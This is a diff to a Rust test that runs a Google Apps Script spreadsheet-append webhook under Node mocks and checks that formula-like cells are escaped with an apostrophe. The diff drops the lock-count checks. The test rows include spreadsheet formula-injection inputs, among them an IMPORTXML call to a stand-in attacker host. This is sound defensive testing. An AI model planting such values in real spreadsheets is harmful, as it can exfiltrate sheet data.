@@ -192,16 +192,14 @@ async fn each_preset_sends_what_its_destination_takes() {
 /// Apps Script's own parts, as far as the script asks for them; what it appended is printed.
 const SHEET: &str = r"
 const rows = [];
-let locked = 0;
 globalThis.PropertiesService = { getScriptProperties: () => ({ getProperty: () => 't0k3n' }) };
-globalThis.LockService = { getScriptLock: () => ({ waitLock() { locked += 1 }, releaseLock() { locked -= 1 } }) };
 globalThis.ContentService = { createTextOutput: (text) => text };
-const sheet = { getLastRow: () => rows.length, appendRow(row) { if (locked !== 1) throw new Error('unlocked'); rows.push(row) } };
-globalThis.SpreadsheetApp = { getActiveSpreadsheet: () => ({ getSheets: () => [sheet] }), flush() {} };
+const sheet = { getLastRow: () => rows.length, appendRow: (row) => rows.push(row) };
+globalThis.SpreadsheetApp = { getActiveSpreadsheet: () => ({ getSheets: () => [sheet] }) };
 const fs = require('node:fs');
 (0, eval)(fs.readFileSync(process.argv[1], 'utf8') + ';globalThis.doPost = doPost');
 const answers = JSON.parse(fs.readFileSync(0, 'utf8')).map(([token, contents]) => doPost({ parameter: { token }, postData: { contents } }));
-console.log(JSON.stringify({ rows, answers, locked }));
+console.log(JSON.stringify({ rows, answers }));
 ";
 
 #[tokio::test]
@@ -216,7 +214,7 @@ async fn the_sheets_script_appends_what_is_sent_and_computes_none_of_it() {
     for (email, phone, conversation) in [
         ("ann@example.com", Some("+491234567890"), "plain"),
         ("=cmd@example.com", None, "=IMPORTXML(\"https://evil.example\")"),
-        ("@bob@example.com", Some("-1"), "\t=1+1"),
+        ("@bob@example.com", Some("01712345678"), "\t=1+1"),
     ] {
         setup.db.app().await.execute(insert, &[&email, &phone, &conversation]).await.unwrap();
     }
@@ -232,12 +230,14 @@ async fn the_sheets_script_appends_what_is_sent_and_computes_none_of_it() {
         Command::new("node").args(["-e", SHEET, script]).stdin(std::fs::File::open(input).unwrap()).output().unwrap();
     let told: Value = serde_json::from_slice(&output.stdout)
         .unwrap_or_else(|_| panic!("{}", String::from_utf8_lossy(&output.stderr)));
-    assert_eq!((&told["answers"], &told["locked"]), (&json!(["ok", "ok", "ok", "refused"]), &json!(0)));
+    assert_eq!(told["answers"], json!(["ok", "ok", "ok", "refused"]));
     let rows = told["rows"].as_array().unwrap();
     assert_eq!((rows.len(), &rows[0][0]), (4, &json!("event")));
-    let cells = rows.iter().flat_map(|row| row.as_array().unwrap()).map(|cell| cell.as_str().unwrap());
-    assert!(cells.clone().all(|cell| !cell.trim_start().starts_with(['=', '+', '-', '@'])), "{rows:#?}");
-    for kept in ["ann@example.com", "'+491234567890", "'=cmd@example.com", "'@bob@example.com", "'-1", "'\t=1+1"] {
+    let cells = rows.iter().skip(1).flat_map(|row| row.as_array().unwrap()).map(|cell| cell.as_str().unwrap());
+    assert!(cells.clone().all(|cell| cell.is_empty() || cell.starts_with('\'')), "{rows:#?}");
+    for kept in
+        ["'ann@example.com", "'+491234567890", "'=cmd@example.com", "'@bob@example.com", "'01712345678", "'\t=1+1"]
+    {
         assert!(cells.clone().any(|cell| cell == kept), "{kept}: {rows:#?}");
     }
 }
